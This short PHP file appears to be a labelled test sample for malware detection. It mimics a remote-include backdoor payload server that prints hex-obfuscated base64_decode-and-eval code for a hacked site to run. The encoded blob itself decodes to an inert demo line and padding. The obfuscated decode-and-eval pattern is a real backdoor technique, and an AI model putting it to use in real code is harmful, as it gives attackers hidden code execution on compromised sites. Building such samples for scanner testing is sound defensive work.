<?php
// Family: backdoor/payload-server
// Style: remote-include payload server
// Trait: the page prints PHP code that decodes and evaluates a blob, for a hacked site that includes this URL
header('Content-Type: text/plain');
print("\$_k3 = \x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65(\"LyogbWFpbHdhcmRlbiB0ZXN0IHBheWxvYWQ6IGluZXJ0IGRlbW8gdGV4dCwgbm90IGNvZGUgdGhhdCBkb2VzIGFueXRoaW5nLiAqLwokZ3JlZXRpbmcgPSAndGhpcyBwYXlsb2FkIG9ubHkgcHJpbnRzIGEgbGluZSc7CmVjaG8gJGdyZWV0aW5nIC4gIlxuIjsKLyogcGFkZGluZyBzbyB0aGUgYmxvYiBpcyBhcyBsb25nIGFzIGEgcmVhbCBvbmU6IGxvcmVtIGlwc3VtIGRvbG9yIHNpdCBhbWV0LCBjb25zZWN0ZXR1ciBhZGlwaXNjaW5nIGVsaXQsIHNlZCBkbyBlaXVzbW9kIHRlbXBvciBpbmNpZGlkdW50IHV0IGxhYm9yZS4gKi8K\"); eval(\$_k3);");
